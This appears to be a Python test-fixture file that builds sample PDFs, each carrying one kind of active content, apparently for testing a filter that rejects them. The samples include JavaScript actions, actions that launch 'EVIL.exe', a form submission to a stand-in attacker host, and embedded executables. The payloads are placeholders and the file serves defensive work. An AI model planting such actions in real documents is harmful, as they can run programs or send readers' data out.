"""PDFs that could do something by themselves: each with one thing that must not get into a set, and its name."""

from pdf_makers import document, field, form, ink, note
from pikepdf import Array, AttachedFileSpec, Dictionary, Name, OutlineItem, String


def script():
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('EVIL')"))


def launch():
    return Dictionary(S=Name.Launch, F=String("EVIL.exe"))


def opening(action):
    def make():
        pdf = document()
        pdf.Root.OpenAction = action
        return pdf

    return make


def named_script():
    pdf = document()
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(script())]))
    )
    return pdf


def page_action():
    pdf = document()
    pdf.pages[0].obj.AA = Dictionary(O=script())
    return pdf


def catalog_action():
    pdf = document()
    pdf.Root.AA = Dictionary(WC=script())
    return pdf


def on_a_note(action):
    def make():
        pdf = document()
        note(pdf, "/Link", A=action, Border=Array([0, 0, 0]))
        return pdf

    return make


def chained():
    pdf = document()
    page = pdf.pages[0].obj
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=Array([script()]))
    return pdf


def on_a_field():
    pdf = document()
    field(pdf, "张三", AA=Dictionary(K=script(), F=script()))
    return pdf


def above_a_field():
    pdf = document()
    one = field(pdf, "张三")
    above = Dictionary(Kids=Array([one]), T="p", AA=Dictionary(C=script()))
    pdf.Root.AcroForm.Fields = Array([pdf.make_indirect(above)])
    return pdf


def in_the_outline():
    pdf = document()
    with pdf.open_outline() as outline:
        outline.root.append(OutlineItem("x", action=launch()))
    return pdf


def attached():
    pdf = document()
    pdf.attachments["EVIL.exe"] = AttachedFileSpec(pdf, b"MZ EVIL", filename="EVIL.exe")
    return pdf


def attached_by_a_note():
    pdf = document()
    held = Dictionary(Type=Name.Filespec, F="EVIL.exe", EF=Dictionary(F=pdf.make_stream(b"MZ EVIL")))
    note(pdf, "/FileAttachment", form(pdf, b""), FS=pdf.make_indirect(held))
    return pdf


def film():
    pdf = document()
    note(pdf, "/RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))))
    return pdf


def form_program():
    pdf = document()
    field(pdf, "张三")
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp>EVIL</xdp>")
    return pdf


def drawing(**more):
    """A page drawn through a drawing with these entries."""

    def make():
        pdf = document(content=b"/X Do " + ink())
        made = {key: value(pdf) if callable(value) else value for key, value in more.items()}
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=form(pdf, b"0 0 m", **made)))
        return pdf

    return make


def outside_data():
    pdf = document(content=b"/X Do " + ink())
    held = form(pdf, b"0 0 m", F=String("EVIL.dat"), FFilter=Name.FlateDecode)
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=held))
    return pdf


def postscript(subtype):
    def make():
        pdf = document(content=b"/X Do " + ink())
        held = pdf.make_stream(b"(EVIL) run")
        held.Type, held.Subtype = Name.XObject, Name.PS if subtype else Name.Form
        held.BBox = Array([0, 0, 9, 9])
        if not subtype:
            held.Subtype2 = Name.PS
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=held))
        return pdf

    return make


def signed():
    pdf = document()
    one = field(pdf, "")
    one.FT = Name.Sig
    one.V = Dictionary(Type=Name.Sig, Contents=b"EVIL")
    return pdf


def picture_with_another():
    pdf = document(content=b"q 9 0 0 9 0 0 cm /X Do Q " + ink())
    one, other = (pdf.make_stream(bytes([n])) for n in (0, 99))
    for each in (one, other):
        each.Type, each.Subtype, each.Width, each.Height = Name.XObject, Name.Image, 1, 1
        each.ColorSpace, each.BitsPerComponent = Name.DeviceGray, 8
    one.Alternates = Array([Dictionary(Image=other, DefaultForPrinting=True)])
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=one))
    return pdf


LIVING = {
    "a script on opening": (opening(script()), "脚本（JavaScript）"),
    "a named script": (named_script, "脚本（JavaScript）"),
    "a script of a page": (page_action, "打开时的动作"),
    "a script on closing": (catalog_action, "打开时的动作"),
    "a script behind another action": (chained, "脚本（JavaScript）"),
    "a script on a note": (on_a_note(script()), "脚本（JavaScript）"),
    "a script on a field": (on_a_field, "脚本（JavaScript）"),
    "a script above a field": (above_a_field, "脚本（JavaScript）"),
    "a program to start": (opening(launch()), "启动程序的动作"),
    "a program to start from the outline": (in_the_outline, "启动程序的动作"),
    "an address": (on_a_note(Dictionary(S=Name.URI, URI=String("http://EVIL.example"))), "打开网址的动作"),
    "a form to send": (
        on_a_note(Dictionary(S=Name.SubmitForm, F=String("http://EVIL.example"))),
        "提交表单的动作",
    ),
    "another file": (on_a_note(Dictionary(S=Name.GoToR, F=String("EVIL.pdf"))), "打开别的文件的动作"),
    "a file inside": (attached, "内嵌文件"),
    "a file in a note": (attached_by_a_note, "内嵌文件"),
    "a film": (film, "影音"),
    "a form program": (form_program, "表单程序（XFA）"),
    "data outside": (outside_data, "引用的外部文件"),
    "a page outside": (drawing(Ref=Dictionary(F=String("EVIL.pdf"), Page=0)), "引用的外部文件"),
    "a picture outside": (drawing(OPI=Dictionary()), "引用的外部文件"),
    "PostScript": (postscript(True), "PostScript 程序"),
    "PostScript of old": (postscript(False), "PostScript 程序"),
    "a picture for the printer": (picture_with_another, "影像的替换版本"),
    "a signature": (signed, "数字签名"),
}
